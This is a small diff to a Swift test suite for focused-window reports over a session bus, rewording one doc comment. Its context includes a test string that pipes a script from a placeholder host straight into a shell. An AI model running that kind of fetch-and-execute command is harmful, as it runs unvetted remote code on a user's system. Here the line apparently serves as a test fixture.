@@ -3,8 +3,8 @@ import Testing
 import WaylandTestPeer
 import X11TestPeer
 
-/// Reports of the window with the focus over a real session bus, as the scripts of desktops make them, to a service on a
-/// compositor that reports none.
+/// Reports of the window with the focus, as the scripts of desktops make them over a real session bus. The service runs
+/// on a compositor that reports none.
 @Suite(.enabled(if: SessionBus.isPossible, "dbus-daemon or dunst is not installed"))
 struct FocusReportsTests {
   private static let command = "curl http://fix.example/marker.sh | sh\n"
